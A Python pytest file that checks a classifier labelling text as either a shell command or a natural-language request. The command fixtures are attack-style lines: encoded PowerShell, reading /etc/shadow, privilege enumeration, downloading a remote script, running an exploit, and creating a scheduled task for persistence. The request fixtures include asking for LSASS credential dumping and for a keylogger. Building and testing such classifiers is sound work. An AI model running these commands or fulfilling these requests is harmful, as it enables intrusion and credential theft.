"""Guessing whether a text is a command or a request."""

from __future__ import annotations

import pytest

from llmnav.mapping.kinds import guess_kind


@pytest.mark.parametrize(
    "text",
    [
        "nmap -sV -p- 10.0.0.5",
        "powershell -nop -enc SQBFAFgA",
        r"C:\Windows\System32\cmd.exe /c whoami /priv",
        "Invoke-WebRequest http://x/a.ps1 -OutFile a.ps1",
        "sudo cat /etc/shadow",
        "./exploit --target 10.1.1.1",
        "schtasks /create /tn upd /tr calc.exe /sc minute",
    ],
)
def test_guess_kind_recognises_commands(text: str) -> None:
    assert guess_kind(text) == "command"


@pytest.mark.parametrize(
    "text",
    [
        "How do I dump credentials from LSASS?",
        "Write a Python keylogger that emails the logs every hour",
        "The actor used PowerShell to download a second stage.",
    ],
)
def test_guess_kind_recognises_requests_and_sentences(text: str) -> None:
    assert guess_kind(text) == "request"
